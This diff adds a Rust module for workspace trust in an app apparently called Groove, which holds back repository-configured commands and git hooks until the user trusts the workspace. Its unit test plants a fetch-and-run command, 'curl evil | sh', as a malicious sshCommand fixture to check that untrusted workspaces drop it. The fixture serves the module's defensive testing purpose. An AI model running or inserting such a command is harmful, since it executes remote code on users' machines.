@@ -0,0 +1,148 @@
+// Trust decisions for workspaces. `.groove/workspace.json` travels with the
+// repository, so the commands it configures (play, custom and terminal
+// commands, the `core.sshCommand` of its git identity) and the hooks git runs
+// are only used once the user has trusted the workspace. Until then every git
+// invocation Groove makes for it runs with `UNTRUSTED_WORKSPACE_GIT_CONFIG`.
+// Decisions are stored per root in `workspace-trust.json` in the app data
+// directory, out of the repository's reach, and mirrored in memory so git
+// invocations can check them without an `AppHandle`.
+
+/// Storage key of each decided workspace root to whether it is trusted.
+/// Loaded at startup; a root without an entry has not been decided yet.
+static WORKSPACE_TRUST: std::sync::OnceLock<Mutex<HashMap<String, bool>>> =
+    std::sync::OnceLock::new();
+
+fn workspace_trust_file(app: &AppHandle) -> Result<PathBuf, String> {
+    let app_data_dir = app
+        .path()
+        .app_data_dir()
+        .map_err(|error| format!("Failed to resolve app data directory: {error}"))?;
+    fs::create_dir_all(&app_data_dir)
+        .map_err(|error| format!("Failed to create app data directory: {error}"))?;
+    Ok(app_data_dir.join(WORKSPACE_TRUST_FILE))
+}
+
+/// A missing or unreadable file leaves every workspace undecided.
+fn read_workspace_trust_file(path: &Path) -> BTreeMap<String, WorkspaceTrustRecord> {
+    fs::read_to_string(path)
+        .ok()
+        .and_then(|raw| serde_json::from_str(&raw).ok())
+        .unwrap_or_default()
+}
+
+fn lock_workspace_trust() -> MutexGuard<'static, HashMap<String, bool>> {
+    WORKSPACE_TRUST
+        .get_or_init(Default::default)
+        .lock()
+        .unwrap_or_else(|error| error.into_inner())
+}
+
+fn load_workspace_trust(app: &AppHandle) {
+    let records = workspace_trust_file(app)
+        .map(|path| read_workspace_trust_file(&path))
+        .unwrap_or_default();
+    *lock_workspace_trust() = records
+        .into_iter()
+        .map(|(key, record)| (key, record.trusted))
+        .collect();
+}
+
+fn workspace_trusted(workspace_root: &Path) -> bool {
+    lock_workspace_trust()
+        .get(&workspace_root_storage_key(workspace_root))
+        .copied()
+        .unwrap_or(false)
+}
+
+/// `WorkspaceContextResponse.trust`: `None` when trusted.
+fn workspace_trust_status(workspace_root: &Path) -> Option<String> {
+    match lock_workspace_trust().get(&workspace_root_storage_key(workspace_root)) {
+        Some(true) => None,
+        Some(false) => Some("denied".to_string()),
+        None => Some("undecided".to_string()),
+    }
+}
+
+fn set_workspace_trust(
+    app: &AppHandle,
+    workspace_root: &Path,
+    trusted: bool,
+) -> Result<(), String> {
+    let path = workspace_trust_file(app)?;
+    let key = workspace_root_storage_key(workspace_root);
+    let mut records = read_workspace_trust_file(&path);
+    records.insert(
+        key.clone(),
+        WorkspaceTrustRecord {
+            workspace_root: workspace_root.display().to_string(),
+            trusted,
+            decided_at: now_iso(),
+        },
+    );
+    let body = serde_json::to_string_pretty(&records)
+        .map_err(|error| format!("Failed to serialize workspace trust: {error}"))?;
+    fs::write(&path, format!("{body}\n"))
+        .map_err(|error| format!("Failed to write {}: {error}", path.display()))?;
+    lock_workspace_trust().insert(key, trusted);
+    Ok(())
+}
+
+/// Refuses to run `what`, which the workspace's own settings configured,
+/// until the workspace is trusted.
+fn ensure_workspace_trusted(workspace_root: &Path, what: &str) -> Result<(), String> {
+    if workspace_trusted(workspace_root) {
+        return Ok(());
+    }
+    Err(format!(
+        "Workspace {} is not trusted; trust it to run {what}.",
+        workspace_root.display()
+    ))
+}
+
+/// The command from the workspace settings that opening a terminal runs, or
+/// `None` when it opens the platform's default terminal or tmux.
+fn workspace_meta_terminal_command(workspace_meta: &WorkspaceMeta) -> Option<&str> {
+    fn non_empty(value: Option<&str>) -> Option<&str> {
+        value.map(str::trim).filter(|value| !value.is_empty())
+    }
+    match non_empty(workspace_meta.open_terminal_at_worktree_command.as_deref()) {
+        Some(command) if is_groove_tmux_command(command) => None,
+        Some(command) if !is_groove_terminal_open_command(command) => Some(command),
+        _ => (workspace_meta.default_terminal == "custom")
+            .then(|| non_empty(workspace_meta.terminal_custom_command.as_deref()))
+            .flatten(),
+    }
+}
+
+#[cfg(test)]
+mod trust_runtime_tests {
+    use super::*;
+
+    #[test]
+    fn untrusted_workspace_git_config_drops_ssh_command_and_hooks() {
+        let workspace_root = std::env::temp_dir().join(format!("groove-test-{}", Uuid::new_v4()));
+        let groove_dir = workspace_root.join(".groove");
+        std::fs::create_dir_all(&groove_dir).expect("mkdir .groove");
+        std::fs::write(
+            groove_dir.join("workspace.json"),
+            r#"{"gitIdentity":{"userName":"Ada","sshCommand":"sh -c 'curl evil | sh'"}}"#,
+        )
+        .expect("write workspace.json");
+        let worktree_path = workspace_root.join(".worktrees").join("feature");
+
+        let untrusted = workspace_git_config_for_path(&worktree_path);
+        assert!(untrusted.contains(&("user.name", "Ada".to_string())));
+        assert!(untrusted.iter().all(|(key, _)| *key != "core.sshCommand"));
+        assert!(untrusted.contains(&("core.hooksPath", "/dev/null".to_string())));
+        assert!(ensure_workspace_trusted(&workspace_root, "its play command").is_err());
+
+        lock_workspace_trust().insert(workspace_root_storage_key(&workspace_root), true);
+        let trusted = workspace_git_config_for_path(&worktree_path);
+        assert!(trusted.iter().any(|(key, _)| *key == "core.sshCommand"));
+        assert!(trusted.iter().all(|(key, _)| *key != "core.hooksPath"));
+        assert!(ensure_workspace_trusted(&workspace_root, "its play command").is_ok());
+
+        lock_workspace_trust().remove(&workspace_root_storage_key(&workspace_root));
+        let _ = std::fs::remove_dir_all(&workspace_root);
+    }
+}